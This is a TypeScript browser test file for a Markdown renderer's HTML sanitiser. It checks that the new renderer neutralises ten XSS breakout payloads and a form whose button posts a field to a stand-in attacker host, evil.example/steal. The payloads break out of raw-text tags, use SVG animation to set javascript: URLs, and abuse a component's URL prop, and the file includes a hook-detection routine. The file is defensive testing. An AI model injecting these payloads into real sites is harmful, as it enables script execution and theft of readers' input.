// The raw-HTML breakouts of the hardening re-attack, in Chromium. Each case's Markdown is rendered twice:
// as markdown-it writes it (what reached out/ before the check parsed as the browser does: the old check
// passed every one of these) and through renderMarkdown (parse5, the allowlist, the page written from the
// checked tree). The first must run the attacker's code in Chromium, which proves the case is real; the
// second must not, and must report it.
import assert from "node:assert/strict";
import { after, before, describe, test } from "node:test";
import MarkdownIt from "markdown-it";
import type { Browser, Page } from "playwright-core";
import { createMarkdown, renderMarkdown } from "../../src/markdown/renderMarkdown.ts";
import { CHROMIUM_MISSING, hasChromium, launchChromium } from "./support/browser.ts";

const skip = !hasChromium();
if (skip) console.log(CHROMIUM_MISSING);

/** A case: its Markdown, what the old pipeline wrote for it (when not markdown-it's own output), and what sets it off. */
interface Breakout {
  readonly name: string;
  readonly markdown: string;
  readonly before?: string;
  /** Clicks the link the attack hides (for attacks that need a reader's click). */
  readonly click?: string;
}

const CASES: readonly Breakout[] = [
  { name: "<xmp> raw text", markdown: '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>' },
  { name: "<noscript> raw text", markdown: '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>' },
  { name: "<noembed> raw text", markdown: '<noembed><p title="</noembed><img src=x onerror=alert(1)>"></noembed>' },
  { name: "<textarea> inline", markdown: 'Text <textarea><p title="</textarea><img src=x onerror=alert(1)>"></textarea>' },
  { name: "<title> inline", markdown: 'Text <title><p title="</title><img src=x onerror=alert(1)>"></title>' },
  { name: "<style> inline", markdown: 'Text <style><p title="</style><img src=x onerror=alert(1)>"></style>' },
  { name: "CDATA read as a bogus comment", markdown: "<![CDATA[ ><img src=x onerror=alert(1)> ]]>" },
  {
    name: "SVG <animate> to a script URL",
    markdown: '<svg width="200" height="50"><a><animate attributeName="href" values="javascript:alert(1)"/><text x="10" y="30">go</text></a></svg>',
    click: "svg text",
  },
  {
    name: "SVG <set> to a script URL",
    markdown: '<svg width="200" height="50"><a><set attributeName="href" to="javascript:alert(1)"/><text x="10" y="30">go</text></a></svg>',
    click: "svg text",
  },
  {
    name: "a component's URL prop",
    markdown: '<UrlBox text="Click" href="javascript:alert(1)" />',
    before: '<div class="url-box"><a class="url-box__link" href="javascript:alert(1)">Click</a></div>',
    click: ".url-box a",
  },
];

const md = createMarkdown();
/** What markdown-it writes for raw HTML, as the old pipeline wrote it once its check passed (raw HTML verbatim). */
const plain = new MarkdownIt({ html: true });
let browser: Browser;

/** What the sentinel alerts: the last thing the page runs, after anything the case would run. */
const SENTINEL = "sentinel";

/**
 * Every hook through which markup, as Chromium parsed it, could run script or send a reader's input: event
 * handler attributes, scripts, script URLs in any attribute, SVG animation, forms and form actions, srcdoc.
 * Runs in the page.
 */
function liveHooksIn(root: Element): string[] {
  const found: string[] = [];
  for (const el of [root, ...Array.from(root.querySelectorAll("*"))]) {
    const tag = el.localName;
    if (["script", "form", "animate", "set", "animatemotion", "animatetransform", "iframe", "object", "embed", "base", "meta"].includes(tag.toLowerCase()))
      found.push(`<${tag}>`);
    for (const attr of Array.from(el.attributes)) {
      const value = attr.value.replace(/[\u0000-\u0020]/g, "").toLowerCase();
      if (/^on/i.test(attr.name) || attr.name === "formaction" || attr.name === "srcdoc" || /^(javascript|vbscript|data):/.test(value))
        found.push(`<${tag} ${attr.name}="${attr.value}">`);
    }
  }
  return found;
}

/**
 * Loads `body` in a page like the site's (inside a <div> of <main>), clicks `click` when the page has it, and says
 * whether the case ran the attacker's alert. Nothing here waits for a span of time: after the case, the page runs a
 * sentinel through the same channels (an image whose load fails, then a click on a script link), and the answer is
 * read once the sentinel has alerted, so an alert the case queued has come first, however slow the machine.
 */
async function fires(body: string, click: string | undefined): Promise<boolean> {
  const page: Page = await browser.newPage();
  try {
    const alerts: string[] = [];
    let sentinel: () => void = () => undefined;
    const sentinelSeen = new Promise<void>((resolve) => {
      sentinel = resolve;
    });
    page.on("dialog", (dialog) => {
      alerts.push(dialog.message());
      if (dialog.message() === SENTINEL) sentinel();
      void dialog.dismiss();
    });
    await page.setContent(
      `<!doctype html><html><head><title>t</title></head><body><main><div class="markdown">${body}</div></main>` +
        `<p><img id="sentinel-image" src="x" onerror="window.imageSentinel = true">` +
        `<a id="sentinel" href="javascript:alert('${SENTINEL}')">sentinel</a></p></body></html>`,
    );
    if (click && (await page.locator(click).count()) > 0) await page.locator(click).first().click();
    await page.waitForFunction(() => (window as { imageSentinel?: boolean }).imageSentinel === true);
    await page.locator("#sentinel").click();
    await sentinelSeen;
    return alerts.some((message) => message !== SENTINEL);
  } finally {
    await page.close();
  }
}

/** The live hooks of `body` as Chromium parses it inside the site's markup (see liveHooksIn). */
async function liveHooks(body: string): Promise<string[]> {
  const page: Page = await browser.newPage();
  try {
    await page.setContent(`<!doctype html><html><head><title>t</title></head><body><main><div class="markdown">${body}</div></main></body></html>`);
    return await page.$eval("main", liveHooksIn);
  } finally {
    await page.close();
  }
}

describe("raw HTML breakouts in Chromium", { skip: skip ? CHROMIUM_MISSING : false }, () => {
  before(async () => {
    browser = await launchChromium();
  });
  after(async () => {
    await browser?.close();
  });

  for (const breakout of CASES) {
    test(`${breakout.name}: ran as the old pipeline wrote it; refused and inert now`, async () => {
      const old = breakout.before ?? plain.render(breakout.markdown);
      assert.equal(await fires(old, breakout.click), true, "the case does not run in Chromium");
      assert.notDeepEqual(await liveHooks(old), [], "the hook finder sees the case's hook");
      const now = renderMarkdown(md, { body: breakout.markdown, file: "content/x.mdx", route: "/x", lineOffset: 0, playgroundPath: "" });
      assert.ok(now.diagnostics.length > 0, "no diagnostic");
      assert.ok(
        now.diagnostics.every((d) => d.severity === "error"),
        JSON.stringify(now.diagnostics),
      );
      assert.deepEqual(await liveHooks(now.html), [], `live hooks in: ${now.html}`);
      assert.equal(await fires(now.html, breakout.click), false, `still runs: ${now.html}`);
    });
  }

  test("a <button formaction> posted the reader off-site; refused and inert now", async () => {
    const markdown = '<form><input name="q" value="secret"><button formaction="https://evil.example/steal">Go</button></form>';
    /** Clicks the button and says whether the form posted to the attacker (a request that is never sent is never awaited). */
    const posted = async (body: string) => {
      const page = await browser.newPage();
      try {
        let post: (value: boolean) => void = () => undefined;
        const sent = new Promise<boolean>((resolve) => {
          post = resolve;
        });
        await page.route("https://evil.example/**", (route) => {
          post(true);
          return route.fulfill({ status: 204, body: "" });
        });
        await page.setContent(`<!doctype html><html><body><main><div>${body}</div></main></body></html>`);
        await page.locator("button").click();
        return await sent;
      } finally {
        await page.close();
      }
    };
    assert.equal(await posted(plain.render(markdown)), true, "the form did not post");
    assert.notDeepEqual(await liveHooks(plain.render(markdown)), [], "the hook finder sees the form");
    const now = renderMarkdown(md, { body: markdown, file: "content/x.mdx", route: "/x", lineOffset: 0, playgroundPath: "" });
    assert.deepEqual(
      now.diagnostics.map((d) => d.message),
      ["raw HTML has a <form> element, which sends readers' input elsewhere"],
    );
    // Refused: nothing of the form is left that could send anything (a button without a form posts nowhere).
    assert.deepEqual(await liveHooks(now.html), [], `live hooks in: ${now.html}`);
  });
});
